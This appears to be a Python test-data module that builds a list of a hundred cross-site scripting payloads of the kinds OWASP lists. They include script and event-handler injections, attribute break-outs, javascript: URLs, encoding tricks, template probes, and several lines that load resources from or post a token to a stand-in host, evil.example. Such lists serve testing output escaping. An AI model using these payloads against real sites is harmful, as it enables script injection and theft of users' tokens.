"""A hundred texts that run something in a page that does not escape what it shows, of the kinds that OWASP lists."""

from itertools import product

CALL = "alert(1)"
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onwheel")
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe srcdoc=x")
OUT_OF_AN_ATTRIBUTE = ('"', "'", '">', "'>", "`>", "-->")
ALONE = (
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script src=data:text/javascript,{CALL}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script\\x20type=module>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</pre><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="jav&#x09;ascript:{CALL}">x</a>',
    f"<iframe src=javascript:{CALL}></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<object data=data:text/html,<script>{CALL}</script>></object>",
    f"<embed src=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    "<form action=//evil.example><input name=token></form>",
    f"<math><mi xlink:href=javascript:{CALL}>x</mi></math>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate {HANDLERS[8]}={CALL} attributeName=x dur=1s>",
    f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<img src=//evil.example/x.png>",
    "<div style=background:url(//evil.example/x.png)>x</div>",
    "<b hx-get=/runs hx-trigger=load>x</b>",
    f"<b hx-on:load={CALL}>x</b>",
    f"<b data-hx-on-click={CALL}>x</b>",
    "<button data-act=runs/x/delete data-name=delete>x</button>",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}#{alert(1)}",
    f"javascript:{CALL}//",
    f"\u202e<script>{CALL}</script>",
    f"＜script＞{CALL}＜/script＞",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<!--><script>{CALL}</script>-->",
    f"<img src='x' {HANDLERS[0]}='{CALL}",
    f'"; {CALL}; "',
    f"'; {CALL}; '",
)
OF_HANDLERS = tuple(f"<{element} {handler}={CALL}>" for element, handler in product(ELEMENTS, HANDLERS))
OUT = tuple(f"{out}<img src=x onerror={CALL}>" for out in OUT_OF_AN_ATTRIBUTE)
HOSTILE = (*ALONE, *OUT, *OF_HANDLERS)[:100]
assert len(set(HOSTILE)) == 100
